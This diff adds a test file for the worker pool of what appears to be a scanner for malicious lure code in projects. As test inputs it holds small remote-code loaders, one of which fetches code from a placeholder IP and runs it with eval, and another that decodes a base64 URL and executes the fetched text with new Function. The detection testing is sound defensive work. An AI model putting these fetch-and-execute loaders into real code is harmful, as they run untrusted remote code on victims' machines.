@@ -1,0 +1,113 @@
+/**
+ * The worker-thread analysis pool (src/analysis/source-pool.ts): same facts as the in-thread path, a file that
+ * exhausts a worker's heap or does not get an answer becomes a text-level fallback and the pool carries on, and a
+ * scan large enough to start the pool reports exactly what the in-thread scan reports.
+ */
+import assert from 'node:assert/strict';
+import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { AnalysisPool } from '../src/analysis/source-pool.js';
+import { analyseFile, sourceIndex } from '../src/analysis/source-index.js';
+import { acquireLocal } from '../src/acquire/local.js';
+import { loadSignatures } from '../src/signatures/load.js';
+import { DEFAULT_LIMITS } from '../src/options.js';
+import { FIXTURES, scanFolder, tempDir } from './helpers.js';
+
+const sigs = loadSignatures();
+
+/** Every JS/TS file under the source rules' positive fixtures: real lure shapes. */
+function fixtureSources(): string[] {
+  const out: string[] = [];
+  const walk = (d: string): void => {
+    for (const e of readdirSync(d)) {
+      const p = path.join(d, e);
+      if (statSync(p).isDirectory()) walk(p);
+      else if (/\.[cm]?[jt]sx?$/.test(e) && !e.endsWith('.d.ts')) out.push(p);
+    }
+  };
+  for (const rule of ['remote-code-execution', 'obfuscated-source', 'env-exfiltration', 'import-time-network']) walk(path.join(FIXTURES, 'rules', rule, 'positive'));
+  return out;
+}
+
+const withoutText = (x: unknown) => JSON.parse(JSON.stringify(x, (k, v) => (k === 'text' && typeof v === 'string' ? undefined : v)));
+
+describe('analysis worker pool', function () {
+  this.timeout(120_000);
+
+  it('gives the same facts and diagnostics as analysing in-thread', async () => {
+    const files = fixtureSources();
+    assert.ok(files.length >= 8, `only ${files.length} fixture sources`);
+    const pool = AnalysisPool.start(sigs.source, DEFAULT_LIMITS, { size: 2 });
+    assert.ok(pool, 'the pool did not start');
+    try {
+      const results = await Promise.all(files.map((f) => pool.run({ path: path.relative(FIXTURES, f), text: readFileSync(f, 'utf8') })));
+      files.forEach((f, i) => {
+        const diagnostics: unknown[] = [];
+        const local = analyseFile(path.relative(FIXTURES, f), readFileSync(f, 'utf8'), sigs, DEFAULT_LIMITS, diagnostics as never, true);
+        const r = results[i];
+        assert.ok(!('crashed' in r), `${f}: ${'crashed' in r ? r.crashed : ''}`);
+        assert.deepEqual(withoutText(r.file), withoutText(local), f);
+        assert.deepEqual(r.diagnostics, diagnostics, f);
+      });
+    } finally {
+      await pool.close();
+    }
+  });
+
+  it('a file that exhausts the worker heap is reported, and the next file is analysed by a fresh worker', async () => {
+    const pool = AnalysisPool.start(sigs.source, DEFAULT_LIMITS, { size: 1, heapMb: 16 })!;
+    try {
+      // ~1.9 MB of nested array literals: a Babel tree of well over 16 MB.
+      const huge = `eval(${'[1,[2,[3]]],'.repeat(170_000)}0);\n`;
+      const r = await pool.run({ path: 'vendor/huge.js', text: huge });
+      assert.ok('crashed' in r && /memory budget|worker/.test(r.crashed), JSON.stringify(r).slice(0, 200));
+      const next = await pool.run({ path: 'index.js', text: 'fetch("http://192.0.2.1/x").then((r) => r.text()).then(eval);\n' });
+      assert.ok(!('crashed' in next) && next.file?.js?.sinks.length === 1, JSON.stringify(next).slice(0, 300));
+    } finally {
+      await pool.close();
+    }
+  });
+
+  it('a worker that does not answer in time is stopped and its file reported', async () => {
+    const pool = AnalysisPool.start(sigs.source, DEFAULT_LIMITS, { size: 1, answerMs: 1 })!;
+    try {
+      const r = await pool.run({ path: 'big.js', text: 'eval(x);\n'.repeat(100_000) });
+      assert.ok('crashed' in r && /no answer/.test(r.crashed), JSON.stringify(r).slice(0, 200));
+    } finally {
+      await pool.close();
+    }
+  });
+
+  it('a scan large enough to start the pool reports exactly what the in-thread scan reports', async () => {
+    const { dir, cleanup } = tempDir();
+    try {
+      // 5 MB of ordinary code that passes the prefilter (request and Buffer tokens), in 20 files, and one loader.
+      const filler = Array.from({ length: 2_000 }, (_, i) => `export async function load${i}(u) { const r = await fetch(u + ${i}); return Buffer.from(await r.arrayBuffer()); }`).join('\n');
+      mkdirSync(path.join(dir, 'src'), { recursive: true });
+      for (let i = 0; i < 20; i++) writeFileSync(path.join(dir, 'src', `lib${i}.js`), filler);
+      writeFileSync(path.join(dir, 'src', 'boot.js'), 'const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => new Function("require", c)(require));\n');
+      const saved = process.env.LURESCAN_WORKERS;
+      try {
+        process.env.LURESCAN_WORKERS = '0';
+        const inThread = await scanFolder(dir);
+        const idx0 = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
+        process.env.LURESCAN_WORKERS = '2';
+        const pooled = await scanFolder(dir);
+        const idx2 = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
+        assert.equal(pooled.verdict, 'block');
+        assert.deepEqual(pooled.findings, inThread.findings);
+        assert.deepEqual(pooled.diagnostics, inThread.diagnostics);
+        assert.deepEqual(withoutText(idx2.files), withoutText(idx0.files));
+        assert.equal(idx2.files.length, 21);
+        assert.equal(idx0.stats.workers, 0);
+        assert.equal(idx2.stats.workers, 2, 'the pool did not start');
+        assert.deepEqual({ ...idx2.stats, ms: 0, workers: 0 }, { ...idx0.stats, ms: 0 });
+      } finally {
+        if (saved === undefined) delete process.env.LURESCAN_WORKERS;
+        else process.env.LURESCAN_WORKERS = saved;
+      }
+    } finally {
+      cleanup();
+    }
+  });
+});
